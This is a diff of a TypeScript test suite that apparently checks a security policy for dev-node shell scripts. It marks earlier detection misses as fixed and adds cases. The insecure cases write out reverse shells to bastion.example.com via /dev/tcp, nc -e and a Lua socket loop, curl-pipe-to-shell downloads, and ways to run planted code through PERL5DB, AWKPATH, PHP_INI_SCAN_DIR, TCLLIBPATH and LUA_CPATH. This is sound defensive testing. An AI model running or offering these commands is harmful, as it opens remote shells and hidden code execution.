@@ -81,7 +81,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-x6-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'include "/opt/r.php";'`]),
         RELAY,
     ),
-    // MISS: PHP manual "The configuration file"/php_ini_scanned_files (additional .ini files are parsed from the
+    // Was a MISS (fixed in round 67): PHP manual "The configuration file"/php_ini_scanned_files (additional .ini files are parsed from the
     // directories in the PHP_INI_SCAN_DIR environment variable, after php.ini): /opt/ini/99-app.ini's
     // auto_prepend_file=/opt/r.php runs the written reverse shell before `php -r`; CODE_LOADERS php reads -c/PHPRC,
     // /etc/php.ini and /etc/php.d/*.ini only (rootReads environmentOptions has no PHP_INI_SCAN_DIR). Accepted.
@@ -94,11 +94,12 @@ const insecure: NodeCase[] = [
             `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo PHP_VERSION;' > /tmp/v`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: perlrun/perldebug ENVIRONMENT (PERL5DB: "The command used to load the debugger code. The default is: BEGIN
+    // Was a MISS (fixed in round 67): perlrun/perldebug ENVIRONMENT (PERL5DB: "The command used to load the debugger code. The default is: BEGIN
     // { require "perl5db.pl" }", run under -d): `PERL5DB='BEGIN { require "/opt/r.pl" }' perl -d -e 1` runs the written
     // reverse shell; rootReads environmentOptions reads PERL5OPT/PERL5LIB, not PERL5DB. Accepted.
+    // (Round 67 node-env: PERL5DB is read now, its code judged and its loads followed by CODE_LOADERS perl `code`;
+    // `require "FILE"` there is the node-loaders branch's: un-skip once both are merged.)
     devNodeCase(
         "PERL5DB require written; perl -d",
         devNodeScript("dev-x8-nodes", [
@@ -106,18 +107,16 @@ const insecure: NodeCase[] = [
             `PERL5DB='BEGIN { require "/opt/r.pl" }' perl -d -e 1`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: perlrun/perldebug (PERL5DB is Perl code run at start under -d): `PERL5DB='BEGIN { IO::Socket ... exec
+    // Was a MISS (fixed in round 67): perlrun/perldebug (PERL5DB is Perl code run at start under -d): `PERL5DB='BEGIN { IO::Socket ... exec
     // "/bin/sh -i" }' perl -d -e 1` is a reverse shell in the variable itself; the pack never reads PERL5DB as program
     // text (SOCKET_SHELL_CODE sees only -e 1). Accepted.
     devNodeCase(
         "PERL5DB inline reverse shell; perl -d",
         devNodeScript("dev-x9-nodes", [`PERL5DB='BEGIN { ${PERL_SHELL} }' perl -d -e 1`]),
         RELAY,
-        true,
     ),
-    // MISS: GNU awk manual "The AWKPATH Environment Variable" (a -f/-i name without `/` is searched in AWKPATH's
+    // Was a MISS (fixed in round 67): GNU awk manual "The AWKPATH Environment Variable" (a -f/-i name without `/` is searched in AWKPATH's
     // directories; the default path only when AWKPATH is unset): `AWKPATH=/opt/awk gawk -i assert` loads the written
     // /opt/awk/assert.awk (/inet/tcp + |& reverse shell); awkLoad (userData.ts) looks in cwd and the default
     // /usr/local/share/awk:/usr/share/awk only, finds nothing written there and takes `assert` as GAWK_KNOWN (shipped).
@@ -130,7 +129,6 @@ const insecure: NodeCase[] = [
             `AWKPATH=/opt/awk gawk -i assert 'BEGIN{}'`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "AWKPATH unshipped name; gawk -i rev",
@@ -141,7 +139,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: GNU awk manual "The AWKLIBPATH Environment Variable" (-l/@load extensions are searched in AWKLIBPATH; they
+    // Was a MISS (fixed in round 67): GNU awk manual "The AWKLIBPATH Environment Variable" (-l/@load extensions are searched in AWKLIBPATH; they
     // are shared libraries loaded into gawk): `AWKLIBPATH=/opt/ext gawk -l filefuncs` loads the downloaded
     // /opt/ext/filefuncs.so, native code the pack cannot read (it may listen or dial out); awkLoad ignores AWKLIBPATH
     // and takes filefuncs as GAWK_KNOWN. Accepted.
@@ -153,9 +151,8 @@ const insecure: NodeCase[] = [
             `AWKLIBPATH=/opt/ext gawk -l filefuncs 'BEGIN{}'`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: Lua manual package.cpath / lua(1) ENVIRONMENT (LUA_CPATH: the path require searches for C loaders):
+    // Was a MISS (fixed in round 67): Lua manual package.cpath / lua(1) ENVIRONMENT (LUA_CPATH: the path require searches for C loaders):
     // `LUA_CPATH='/opt/lua/?.so' lua -lcjson` loads the downloaded /opt/lua/cjson.so (native code the pack cannot
     // read); luaModule searches LUA_PATH templates only and takes cjson as LUA_KNOWN_MODULES. Read LUA_CPATH (and
     // LUA_CPATH_5_x) and fail closed on a downloaded .so. Accepted.
@@ -167,9 +164,8 @@ const insecure: NodeCase[] = [
             `LUA_CPATH='/opt/lua/?.so' lua -lcjson -e 'print(1)'`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: tclvars(n) auto_path ("initialized during startup to contain, in order: the directories listed in the
+    // Was a MISS (fixed in round 67): tclvars(n) auto_path ("initialized during startup to contain, in order: the directories listed in the
     // TCLLIBPATH environment variable, ...") and package(n) (`package require` with no version takes the highest
     // version the pkgIndex.tcl files offer): /opt/tcl/http/pkgIndex.tcl's `package ifneeded http 9.9 [list source
     // /opt/tcl/http/r.tcl]` makes `package require http` source the written socket + exec shell; CODE_LOADERS tcl takes
@@ -183,7 +179,6 @@ const insecure: NodeCase[] = [
             `TCLLIBPATH=/opt/tcl tclsh <<< 'package require http'`,
         ]),
         RELAY,
-        true,
     ),
     // Was a MISS (fixed in round 67): Tcl eval(n)/read(n)/open(n): `eval [read [open /opt/r.tcl]]` evaluates the written socket + exec reverse
     // shell; CODE_LOADERS tcl follows only source/load/package require, and eval of computed text is not failed closed.
@@ -301,7 +296,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-n14-nodes", [`tclsh <<< 'set f [open /opt/$::env(N).tcl]; eval [read $f]'`]),
         RELAY,
     ),
-    // MISS: bash(1) OPTIONS (`--rcfile file`/`--init-file file` take the next word as their value and apply only to
+    // Was a MISS (fixed in round 67): bash(1) OPTIONS (`--rcfile file`/`--init-file file` take the next word as their value and apply only to
     // interactive shells; "-s If the -s option is present, or if no arguments remain after option processing, then
     // commands are read from the standard input"): `bash --rcfile /etc/bashrc <<EOF` runs the here-document's /dev/tcp
     // reverse shell; shellReadsStdin (rootReads.ts) skips `--rcfile` as a flag and takes /etc/bashrc as the script
@@ -314,9 +309,8 @@ const insecure: NodeCase[] = [
             "EOF",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) OPTIONS (`--init-file file` is `--rcfile file`, a value-taking option): `bash --init-file
+    // Was a MISS (fixed in round 67): bash(1) OPTIONS (`--init-file file` is `--rcfile file`, a value-taking option): `bash --init-file
     // /etc/bashrc <<< '...'` reads the here-string's reverse shell; shellReadsStdin reads /etc/bashrc as the script.
     // Accepted.
     devNodeCase(
@@ -325,7 +319,6 @@ const insecure: NodeCase[] = [
             `bash --init-file /etc/bashrc <<< 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1'`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "perl < <(cat written)",
@@ -443,7 +436,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-c7-nodes", ["busybox telnetd -l /bin/sh -p 2323"]),
         /./,
     ),
-    // MISS: BusyBox docs (`busybox APPLET ARGS`: `ash` is the shell applet; ash reads standard input given no script) :
+    // Was a MISS (fixed in round 67): BusyBox docs (`busybox APPLET ARGS`: `ash` is the shell applet; ash reads standard input given no script) :
     // `busybox ash <<EOF` runs the here-document's `nc HOST 4444 -e /bin/sh`; plain `ash <<EOF` is refused, but
     // shellReadsStdin is asked about the name `busybox` (not appletWords'd) in rootReads here-document reading.
     // Accepted.
@@ -451,16 +444,14 @@ const insecure: NodeCase[] = [
         "busybox ash <<EOF reverse shell",
         devNodeScript("dev-c8-nodes", ["busybox ash <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
         RELAY,
-        true,
     ),
-    // MISS: BusyBox docs (`sh` applet is ash): `busybox sh <<EOF` with an nc -e reverse shell is accepted while
+    // Was a MISS (fixed in round 67): BusyBox docs (`sh` applet is ash): `busybox sh <<EOF` with an nc -e reverse shell is accepted while
     // `busybox sh -c` and `sh <<EOF` are refused: shellReadsStdin/here-document reading does not go through
     // appletWords. Accepted.
     devNodeCase(
         "busybox sh <<EOF reverse shell",
         devNodeScript("dev-c10-nodes", ["busybox sh <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "busybox ash written script",
@@ -470,14 +461,13 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: toybox docs (`toybox sh`: the toysh applet, reading standard input given no script): `toybox sh <<EOF` with
+    // Was a MISS (fixed in round 67): toybox docs (`toybox sh`: the toysh applet, reading standard input given no script): `toybox sh <<EOF` with
     // an nc -e reverse shell is accepted (as busybox sh <<EOF): here-document reading does not strip the multicall
     // wrapper. Accepted.
     devNodeCase(
         "toybox sh <<EOF reverse shell",
         devNodeScript("dev-c12-nodes", ["toybox sh <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "ash <<EOF reverse shell (no busybox)",
@@ -492,6 +482,141 @@ const insecure: NodeCase[] = [
             "EOF",
         ]),
         RELAY,
+    ),
+    // Round 67 neighbours (node-env): loader variables the pack cannot compute, set earlier, read by in-code loads, the
+    // Lua path for -l, PHP's blank scan entry and -c, perl -dt, a Tcl script, busybox/bash stdin forms.
+    devNodeCase(
+        "AWKPATH from a command's output; gawk -i assert",
+        devNodeScript("dev-n1-nodes", [`AWKPATH=$(cat /etc/awkpath) gawk -i assert 'BEGIN{}'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "export AWKPATH earlier; gawk -i assert (written)",
+        devNodeScript("dev-n2-nodes", [
+            "mkdir -p /opt/awk",
+            ...written("/opt/awk/assert.awk", AWK_SHELL),
+            "export AWKPATH=/opt/awk",
+            `gawk -i assert 'BEGIN{}'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        'AWKPATH; @include "assert" in the program (written)',
+        devNodeScript("dev-n3-nodes", [
+            "mkdir -p /opt/awk",
+            ...written("/opt/awk/assert.awk", AWK_SHELL),
+            ...written("/opt/main.awk", '@include "assert"\nBEGIN { print 1 }'),
+            "AWKPATH=/opt/awk gawk -f /opt/main.awk",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "AWKLIBPATH: a null entry is the working directory (downloaded .so)",
+        devNodeScript("dev-n4-nodes", [
+            "cd /opt",
+            "curl -fsSL -o /opt/filefuncs.so https://downloads.example.com/filefuncs.so",
+            `AWKLIBPATH=:/usr/lib64/gawk gawk -l filefuncs 'BEGIN{}'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "LUA_PATH written cjson.lua; lua -lcjson",
+        devNodeScript("dev-n5-nodes", [
+            "mkdir -p /opt/lua",
+            ...written(
+                "/opt/lua/cjson.lua",
+                `local s=require("socket").tcp();s:connect("bastion.example.com",4444);while true do local l=s:receive();local f=io.popen(l);s:send(f:read("*a")) end`,
+            ),
+            `LUA_PATH='/opt/lua/?.lua' lua -lcjson -e 'print(1)'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "LUA_CPATH_5_4 downloaded lfs.so; lua5.4 -llfs",
+        devNodeScript("dev-n6-nodes", [
+            "curl -fsSL -o /opt/lfs.so https://downloads.example.com/lfs.so",
+            `LUA_CPATH_5_4='/opt/?.so;;' lua5.4 -llfs -e 'print(1)'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "PHP_INI_SCAN_DIR blank entry and /opt/ini (written prepend)",
+        devNodeScript("dev-n7-nodes", [
+            "mkdir -p /opt/ini",
+            ...written("/opt/r.php", PHP_SHELL),
+            "echo 'auto_prepend_file=/opt/r.php' > /opt/ini/99-app.ini",
+            `PHP_INI_SCAN_DIR=:/opt/ini php -r 'echo 1;'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "php -c FILE still scans /etc/php.d (written prepend)",
+        devNodeScript("dev-n8-nodes", [
+            ...written("/opt/r.php", PHP_SHELL),
+            "echo 'auto_prepend_file=/opt/r.php' > /etc/php.d/99-app.ini",
+            "echo 'memory_limit=256M' > /opt/php.ini",
+            `php -c /opt/php.ini -r 'echo 1;'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "PHP_INI_SCAN_DIR unpacked tree",
+        devNodeScript("dev-n9-nodes", [
+            "mkdir -p /opt/ini",
+            "curl -fsSL https://downloads.example.com/ini.tgz | tar -xz -C /opt/ini",
+            `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo 1;'`,
+        ]),
+        /./,
+    ),
+    devNodeCase(
+        "PERL5DB inline reverse shell; perl -dt",
+        devNodeScript("dev-n10-nodes", [`PERL5DB='BEGIN { ${PERL_SHELL} }' perl -dt -e 1`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "PERL5OPT=-d with PERL5DB reverse shell",
+        devNodeScript("dev-n11-nodes", [`PERL5OPT=-d PERL5DB='BEGIN { ${PERL_SHELL} }' perl -e 1`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "TCLLIBPATH index; tclsh script with package require",
+        devNodeScript("dev-n12-nodes", [
+            "mkdir -p /opt/tcl/http",
+            ...written("/opt/tcl/http/r.tcl", TCL_SHELL),
+            `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`,
+            ...written("/opt/app.tcl", "package require http"),
+            "TCLLIBPATH=/opt/tcl tclsh /opt/app.tcl",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "index written in the default auto_path; tclsh <<<",
+        devNodeScript("dev-n13-nodes", [
+            "mkdir -p /usr/share/tcl8.6/httpx",
+            ...written("/usr/share/tcl8.6/httpx/r.tcl", TCL_SHELL),
+            `echo 'package ifneeded http 9.9 [list source /usr/share/tcl8.6/httpx/r.tcl]' > /usr/share/tcl8.6/httpx/pkgIndex.tcl`,
+            `tclsh <<< 'package require http'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "busybox sh -s <<EOF reverse shell",
+        devNodeScript("dev-n14-nodes", ["busybox sh -s <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "bash --rcfile FILE -s <<EOF",
+        devNodeScript("dev-n15-nodes", [
+            "bash --rcfile /etc/bashrc -s <<'EOF'",
+            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
+            "EOF",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "busybox sh piped a download",
+        devNodeScript("dev-n16-nodes", ["curl -fsSL https://downloads.example.com/x.sh | busybox sh"]),
+        /./,
     ),
 ];
 
@@ -560,7 +685,7 @@ const secure: NodeCase[] = [
             `tclsh <<< 'namespace eval app { proc hi {} { puts hi } }; uplevel #0 { app::hi }' > /tmp/h`,
         ]),
     ),
-    // MISS: (secure refused) GNU awk manual "The AWKPATH Environment Variable": `AWKPATH=/opt/awk gawk -i lib` loads
+    // Was a MISS (fixed in round 67): (secure refused) GNU awk manual "The AWKPATH Environment Variable": `AWKPATH=/opt/awk gawk -i lib` loads
     // the written, harmless /opt/awk/lib.awk (a function library); the pack looks only in cwd and the default path,
     // finds no lib.awk and refuses "-i lib, code user data does not write ... a reverse shell". Read AWKPATH so the
     // written library is judged (it has no socket).
@@ -572,7 +697,6 @@ const secure: NodeCase[] = [
             `AWKPATH=/opt/awk gawk -i lib '{ print twice($2) }' /proc/meminfo > /tmp/m`,
         ]),
         /./,
-        true,
     ),
     devNodeCase(
         "bash --norc <<EOF (harmless)",
@@ -605,6 +729,55 @@ const secure: NodeCase[] = [
         devNodeScript("dev-s11-nodes", [
             ...written("/opt/h.tcl", "puts [info hostname]"),
             `tclsh <<< 'eval [read [open /opt/h.tcl]]' > /tmp/h`,
+        ]),
+    ),
+    // Round 67 neighbours (node-env).
+    devNodeCase(
+        "AWKPATH with the default directory; gawk -i assert (shipped)",
+        devNodeScript("dev-t1-nodes", [`AWKPATH=/opt/awk:/usr/share/awk gawk -i assert 'BEGIN{}'`]),
+    ),
+    devNodeCase(
+        "AWKLIBPATH with the default directory; gawk -l filefuncs (shipped)",
+        devNodeScript("dev-t2-nodes", [`AWKLIBPATH=/opt/ext:/usr/lib64/gawk gawk -l filefuncs 'BEGIN{}'`]),
+    ),
+    devNodeCase(
+        "AWKPATH written harmless @include",
+        devNodeScript("dev-t3-nodes", [
+            "mkdir -p /opt/awk",
+            ...written("/opt/awk/lib.awk", "function twice(x) { return 2 * x }"),
+            `AWKPATH=/opt/awk gawk '@include "lib"\n{ print twice($2) }' /proc/meminfo > /tmp/m`,
+        ]),
+    ),
+    devNodeCase(
+        "LUA_CPATH with the default; lua -lcjson (packaged)",
+        devNodeScript("dev-t4-nodes", [`LUA_CPATH='/opt/lua/?.so;;' lua -lcjson -e 'print(1)'`]),
+    ),
+    devNodeCase(
+        "TCLLIBPATH with no index written; package require http",
+        devNodeScript("dev-t5-nodes", [`TCLLIBPATH=/opt/tcl tclsh <<< 'package require http'`]),
+    ),
+    devNodeCase(
+        "PERL5DB harmless; perl -d",
+        devNodeScript("dev-t6-nodes", [`PERL5DB='BEGIN { print STDERR "debug\n" }' perl -d -e 1`]),
+    ),
+    devNodeCase(
+        "PERL5DB set, perl without -d",
+        devNodeScript("dev-t7-nodes", [`PERL5DB='BEGIN { ${PERL_SHELL} }' perl -e 1`]),
+    ),
+    devNodeCase(
+        "busybox sh <<EOF (harmless)",
+        devNodeScript("dev-t8-nodes", ["busybox sh <<'EOF'", "echo ok > /etc/motd", "EOF"]),
+    ),
+    devNodeCase(
+        "bash --init-file FILE <<EOF (harmless)",
+        devNodeScript("dev-t9-nodes", ["bash --init-file /etc/bashrc <<'EOF'", "echo ok > /etc/motd", "EOF"]),
+    ),
+    devNodeCase(
+        "PHP_INI_SCAN_DIR blank entry, harmless ini",
+        devNodeScript("dev-t10-nodes", [
+            "mkdir -p /opt/ini",
+            "echo 'memory_limit=256M' > /opt/ini/99-app.ini",
+            `PHP_INI_SCAN_DIR=:/opt/ini php -r 'echo 1;' > /tmp/v`,
         ]),
     ),
 ];
